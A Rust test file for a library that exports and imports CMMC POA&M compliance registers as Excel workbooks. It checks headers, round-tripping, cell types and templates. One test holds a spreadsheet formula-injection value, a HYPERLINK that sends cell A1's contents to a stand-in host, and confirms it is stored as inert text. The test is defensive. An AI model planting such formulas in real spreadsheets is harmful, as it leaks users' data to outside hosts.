//! The workbook: what is in it, and that it comes back as it went.

use std::io::Cursor;

use crate::sample;
use calamine::{Data, Reader, Xlsx};
use closeout_exchange::{columns::SHEETS, document::Document, workbook};

#[expect(clippy::unwrap_used, reason = "a workbook that cannot be opened fails the test")]
fn open(bytes: &[u8]) -> Xlsx<Cursor<&[u8]>> {
    Xlsx::new(Cursor::new(bytes)).unwrap()
}

#[test]
fn a_register_comes_back_as_it_went() {
    let document = sample::document();
    let reading = workbook::read(&workbook::write(&document).unwrap()).unwrap();
    assert_eq!(reading.problems, []);
    assert_eq!(sample::read_back(reading.document), sample::read_back(document));
}

#[test]
fn the_same_register_gives_the_same_bytes() {
    let document = sample::document();
    assert_eq!(workbook::write(&document).unwrap(), workbook::write(&document).unwrap());
    let later = Document { as_of: Some(jiff::civil::date(2026, 3, 3)), ..document.clone() };
    assert_ne!(workbook::write(&document).unwrap(), workbook::write(&later).unwrap());
}

#[test]
fn sheets_and_headers_are_a_contract() {
    let bytes = workbook::write(&sample::document()).unwrap();
    let mut book = open(&bytes);
    assert_eq!(book.sheet_names(), ["POA&M", "Milestones", "Tasks", "Read me"]);
    assert!(book.vba_project().unwrap().is_none());
    let header = |book: &mut Xlsx<_>, sheet| -> Vec<String> {
        let range = book.worksheet_range(sheet).unwrap();
        range.rows().next().unwrap().iter().map(ToString::to_string).collect()
    };
    assert_eq!(
        header(&mut book, "POA&M"),
        [
            "POA&M ID",
            "Weakness",
            "Requirement",
            "CMMC practice",
            "Points",
            "Objectives not met",
            "Identified by",
            "Source",
            "Recurrence of",
            "Root cause",
            "Corrective actions",
            "Point of contact",
            "E-mail of contact",
            "Priority",
            "Reason for priority",
            "Resources: people",
            "Resources: hours",
            "Resources: cost (USD)",
            "Resources: funding source",
            "Milestones with completion dates",
            "Scheduled completion date",
            "Approved completion date",
            "Changes to milestones",
            "Verification criteria",
            "Status",
            "Evidence (SHA-256)",
            "Reason for change",
            "Record version",
        ]
    );
    assert_eq!(
        header(&mut book, "Milestones"),
        [
            "POA&M ID",
            "Weakness",
            "No.",
            "Milestone",
            "Scheduled date",
            "Approved date",
            "Reached on",
            "Changes of date",
            "Reason for change of date",
        ]
    );
    assert_eq!(
        header(&mut book, "Tasks"),
        [
            "POA&M ID",
            "Weakness",
            "No.",
            "Task",
            "Responsible",
            "Approver",
            "Effort (hours)",
            "Due",
            "Stage",
            "Tickets",
            "Reason for change",
        ]
    );
}

#[test]
fn dates_are_dates_money_is_a_number_and_nothing_is_a_formula() {
    let bytes = workbook::write(&sample::document()).unwrap();
    let mut book = open(&bytes);
    let range = book.worksheet_range("POA&M").unwrap();
    assert!(matches!(range.get_value((1, 20)), Some(Data::DateTime(_))));
    assert_eq!(range.get_value((1, 17)), Some(&Data::Float(6200.0)));
    assert_eq!(
        range.get_value((3, 1)),
        Some(&Data::String("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")".into()))
    );
    for sheet in SHEETS {
        let formulas = book.worksheet_formula(sheet.name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "{}", sheet.name);
    }
}

#[test]
fn the_template_is_empty_and_can_be_read() {
    let bytes = workbook::template(&sample::document()).unwrap();
    let reading = workbook::read(&bytes).unwrap();
    assert_eq!((reading.problems.len(), reading.document.entries.len()), (0, 0));
    assert_eq!(reading.document.system, "Halden CUI enclave");
    let mut book = open(&bytes);
    assert_eq!(book.worksheet_range("POA&M").unwrap().height(), 1, "a header and nothing else");
    let guide = book.worksheet_range("Read me").unwrap();
    let texts: Vec<String> = guide.used_cells().map(|(_, _, cell)| cell.to_string()).collect();
    assert!(texts.iter().any(|text| text.contains("VPN asks for a password only")), "examples stand in the guide");
    for sheet in SHEETS {
        assert!(sheet.columns.iter().all(|c| texts.iter().any(|text| text == c.header)), "every column is explained");
    }
}

#[test]
fn a_text_that_does_not_fit_is_cut_and_not_read_back() {
    let mut document = sample::document();
    document.entries[0].root_cause = "x".repeat(40_000);
    let reading = workbook::read(&workbook::write(&document).unwrap()).unwrap();
    assert_eq!(reading.problems, []);
    let entry = &reading.document.entries[0];
    assert_eq!(entry.root_cause, "");
    assert!(!entry.origin.states(closeout_exchange::columns::Field::RootCause));
}
